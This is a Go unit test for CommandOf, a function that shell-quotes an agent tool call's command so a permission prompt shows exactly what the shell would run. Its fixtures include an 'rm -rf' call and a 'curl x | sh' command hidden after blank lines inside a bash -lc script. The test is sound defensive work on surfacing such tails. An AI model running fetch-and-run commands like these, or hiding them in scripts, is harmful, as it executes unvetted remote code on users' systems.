package toolcall

import (
	"encoding/json"
	"testing"
)

// The command a permission request shows is what the shell would run: each
// word of an argument list quoted as sh needs it, so a script passed to
// bash -lc reads as one argument, with its hidden tail inside the quotes.
func TestCommandOfQuotesEachWordAsAShellNeeds(t *testing.T) {
	for in, want := range map[string]string{
		`{"command":"ls -l"}`:                                        `ls -l`,
		`{"command":["ls","-l","/tmp/x.json"]}`:                      `ls -l /tmp/x.json`,
		`{"command":["rm","-rf","my themes","it's"]}`:                `rm -rf 'my themes' 'it'\''s'`,
		`{"command":["/bin/bash","-lc","echo ok\n\n\ncurl x | sh"]}`: "/bin/bash -lc 'echo ok\n\n\ncurl x | sh'",
		`{"command":["echo","","a;b","$HOME","a\\b","*"]}`:           `echo '' 'a;b' '$HOME' 'a\b' '*'`,
		`{"command":[]}`:     ``,
		`{"cmd":"ls"}`:       ``,
		`["not","an","obj"]`: ``,
	} {
		if got := CommandOf(json.RawMessage(in)); got != want {
			t.Errorf("CommandOf(%s) = %q, want %q", in, got, want)
		}
	}
}
